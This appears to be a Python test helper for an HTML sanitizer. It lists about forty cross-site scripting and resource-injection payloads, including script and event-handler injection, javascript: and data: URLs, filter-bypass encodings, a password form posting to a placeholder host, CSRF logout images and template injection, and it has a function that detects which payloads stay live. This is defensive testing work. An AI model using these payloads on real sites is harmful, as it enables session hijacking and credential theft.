"""What an attacker types as HTML, and whether it is alive where it is shown."""

from lxml import html

#: Alive, each of them runs, fetches or leads to something with this word.
BAIT = "PWNED"
PAYLOADS = (
    "<script>PWNED()</script>",
    '<img src=x onerror="PWNED()">',
    '<svg onload="PWNED()"><script>PWNED()</script></svg>',
    '<svg><a xlink:href="javascript:PWNED()"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PWNED"/></svg>',
    "<math><mtext><script>PWNED()</script></mtext></math>",
    '<a href="javascript:PWNED()">x</a>',
    '<a href="JaVa&#x09;ScRiPt&colon;PWNED()">x</a>',
    '<a href="data:text/html,<script>PWNED()</script>">x</a>',
    '<a href="vbscript:PWNED()">x</a>',
    '<div style="background:url(http://PWNED/x.png)">x</div>',
    '<div style="width:expression(PWNED())">x</div>',
    "<style>@import 'http://PWNED'; * {display: none}</style>",
    '<link rel="stylesheet" href="http://PWNED/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://PWNED">',
    '<base href="http://PWNED/">',
    '<form action="http://PWNED"><input name="password"></form>',
    '<button formaction="javascript:PWNED()">x</button>',
    '<iframe src="http://PWNED" srcdoc="<script>PWNED()</script>"></iframe>',
    '<object data="http://PWNED"></object><embed src="http://PWNED">',
    "<scr<script>ipt>PWNED()</scr</script>ipt>",
    "&lt;script&gt;PWNED()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=PWNED()&amp;gt;",
    '<noscript><p title="</noscript><img src=x onerror=PWNED()>"></noscript>',
    '<p t-out="PWNED" t-attf-class="PWNED" t-call="web.PWNED">x</p>',
    "{{ object.PWNED }} ${object.PWNED} <t t-out='PWNED'/>",
    '<img src="http://PWNED/pixel.png" srcset="http://PWNED/2.png 2x">',
    '<img src="file:///etc/PWNED"><video src="http://PWNED/v" poster="//PWNED">',
    '<img src="/web/session/logout?PWNED">',
    '<img src="/web/image/../session/logout?PWNED">',
    '<img src="/web/content/1/..%2f../session/logout?access_token=PWNED">',
    '<p style="color:red;background-image:url(//PWNED/css)">x</p>',
    """<p style="background-image:image-set('//PWNED/set' 1x)">x</p>""",
    """<p style="background-image:-webkit-image-set('//PWNED/set' 1x)">x</p>""",
    '<table background="//PWNED/table"><tr><td background="//PWNED/td">x</table>',
    '<a href="http://x" ping="//PWNED/ping">x</a>',
    '<image src="//PWNED/image"></image>',
    "]]><script>PWNED()</script><!--",
    '"><script>PWNED()</script>',
    "' onmouseover='PWNED()",
)
ALL = "".join(PAYLOADS)
#: What lays itself over the page, with a class of the page's own style sheet.
OVERLAY = (
    '<a class="position-fixed top-0 start-0 w-100 h-100" href="http://PWNED">x</a>'
)
#: Attributes that run or fetch, beside all that begin with "on".
LIVE = (
    "src",
    "srcset",
    "srcdoc",
    "poster",
    "background",
    "action",
    "formaction",
    "data",
)
LIVE += ("href", "xlink:href", "style", "content", "ping")
#: A link to another site is only a link: somebody has to follow it.
LINK = ("http://", "https://")


def alive(page):
    """Return what of the attack is alive in the HTML ``page``."""
    found = []
    for element in html.fromstring(page).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in ("script", "style") and f"{BAIT}()" in (element.text or ""):
            found.append(html.tostring(element)[:200])
        for name, value in element.attrib.items():
            if BAIT not in value or (element.tag == "a" and value.startswith(LINK)):
                continue
            if name.startswith(("on", "t-")) or name in LIVE:
                found.append((element.tag, name, value[:100]))
    return found
